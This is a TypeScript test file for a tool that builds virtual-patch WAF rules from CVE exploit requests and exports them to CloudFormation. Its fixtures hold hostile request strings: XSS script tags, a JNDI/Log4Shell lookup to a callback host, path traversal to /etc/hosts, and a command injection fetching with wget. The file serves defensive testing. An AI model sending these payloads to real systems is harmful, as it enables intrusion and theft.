import { describe, expect, it } from 'vitest';
import type { ExploitPack, ExploitVariant } from '../contract.ts';
import { parseRequest } from '../request/parse.ts';
import { asCloudFormation } from './cloudformation.ts';
import { patchCve } from './patch-cve.ts';
import { patchTools } from './tools.ts';

const BROWSER = 'Host: example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n';

const get = (target: string, headers = '') => ({
  text: `GET ${target} HTTP/1.1\r\n${BROWSER}${headers}\r\n`,
  carries: true,
});

const post = (target: string, type: string, body: string) => ({
  text: `POST ${target} HTTP/1.1\r\n${BROWSER}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  carries: true,
});

const pack = (variants: readonly Partial<ExploitVariant>[], cwe: readonly string[] = ['CWE-79']): ExploitPack => ({
  cve: 'CVE-2024-0001',
  title: '',
  severity: 'high',
  cwe,
  variants: variants.map((variant, index) => ({ id: `v${index}`, requests: [], unresolved: [], ...variant })),
  sources: [],
});

const FORM = 'application/x-www-form-urlencoded';
const tools = patchTools();

function made(variants: readonly Partial<ExploitVariant>[], cwe?: readonly string[]) {
  const patch = patchCve(pack(variants, cwe), tools);
  if (!('rule' in patch)) throw new Error(patch.reason);
  return { ...patch, blocks: (text: string) => tools.blocks(patch.rule, parseRequest(text)) };
}

describe('a virtual patch', () => {
  it('searches for what the attack needs on the path that is attacked, and lets the path be used', () => {
    const patch = made([{ requests: [get('/plugin/show.php?id=1&name=%3Cscript%3Ealert(1)%3C/script%3E')] }]);
    expect(patch.blocks('GET /plugin/show.php?name=%3CSCRIPT+src=x%3E HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(true);
    expect(patch.blocks('GET /plugin/show.php?id=1&name=anna HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(false);
    expect(patch.blocks('GET /other?name=%3Cscript%3E HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(false);
  });

  it('holds on every path for what no ordinary request has', () => {
    const patch = made([{ requests: [get('/search?q=%24%7Bjndi:ldap://callback.example.com/a%7D')] }]);
    expect(patch.blocks('GET /elsewhere?x=$%7BJNDI:rmi://b%7D HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(true);
    expect(patch.wcu).toBeLessThanOrEqual(30);
  });

  it('never takes the browser of an attacker, or what ordinary clients send, for the attack', () => {
    const patch = made([{ requests: [get('/admin/backup.zip', 'Referer: https://example.com/admin\r\n')] }]);
    expect(JSON.stringify(patch.rule)).not.toMatch(/user-agent|referer/i);
  });

  it('closes a path only where nothing else carries the attack, and says so', () => {
    const patch = made([{ requests: [get('/secret/config.bak')] }]);
    expect(patch.remarks).toContain('closes-the-path');
    expect(patch.blocks('GET /secret//./config.bak HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(true);
  });

  it('sees steps up the tree before they are taken, whichever file they lead to', () => {
    const patch = made([
      { requests: [get('/icons/.%2e/.%2e/.%2e/.%2e/etc/hosts'), get('/cgi-bin/.%2e/.%2e/.%2e/etc/hosts')] },
    ]);
    expect(patch.blocks('GET /cgi-bin/%2e%2e/.%2e/.%2e/etc/group HTTP/1.1\r\nHost: a\r\n\r\n')).toBe(true);
    expect(patch.remarks).not.toContain('closes-the-path');
  });

  it('lets the ordinary sign-in pass that comes before an attack, where the weakness is another', () => {
    const requests = [
      post('/wp-login.php', FORM, 'log=user&pwd=password&wp-submit=Log+In'),
      get('/wp-admin/x.php?page=%3Cscript%3E'),
    ];
    const patch = made([{ steps: true, requests }]);
    expect(patch.proof.known).toEqual({ tried: 1, blocked: 1 });
    expect(patch.remarks).toContain('steps-beside-pass');
    expect(patch.blocks('POST /wp-login.php HTTP/1.1\r\nHost: a\r\n\r\nlog=user&pwd=password')).toBe(false);
    expect(made([{ steps: true, requests }], ['CWE-287']).proof.known.tried).toBe(2);
  });

  it('sees a body behind padding where the path narrows the rule', () => {
    const patch = made([{ requests: [post('/run', 'application/json', '{"cmd":"a;wget http://x"}')] }]);
    expect(patch.proof.padded).toEqual({ tried: 1, blocked: 1 });
    expect(patch.remarks).not.toContain('padding-remains');
  });

  it.each([
    ['the ordinary use of a form', [post('/login.php', FORM, 'username=taro&password=Xk29dm')]],
    ['a page that everybody fetches', [get('/index.php')]],
  ])('does not come of %s', (_, requests) => {
    const patch = patchCve(pack([{ requests }]), tools);
    expect(patch).toMatchObject({ reason: 'nothing-distinguishes', requests: [requests[0]?.text] });
  });

  it('does not come of nothing, and gives way to what the operator calls ordinary', () => {
    expect(patchCve(pack([]), tools)).toMatchObject({ reason: 'no-known-request' });
    const attack = get('/a?x=%3Cscript%3E');
    const own = [parseRequest(attack.text)];
    expect(patchCve(pack([{ requests: [attack] }]), tools, own)).toMatchObject({ reason: 'nothing-distinguishes' });
  });

  it('is a rule group for CloudFormation with bytes under the name that CloudFormation takes', () => {
    const template = JSON.stringify(asCloudFormation(made([{ requests: [get('/x?y=%3Cscript%3E')] }]), 'CLOUDFRONT'));
    expect(template).toContain('"Scope":"CLOUDFRONT"');
    expect(template).toContain(`"SearchStringBase64":"${Buffer.from('<script').toString('base64')}"`);
    expect(template).not.toContain('"SearchString"');
  });
});
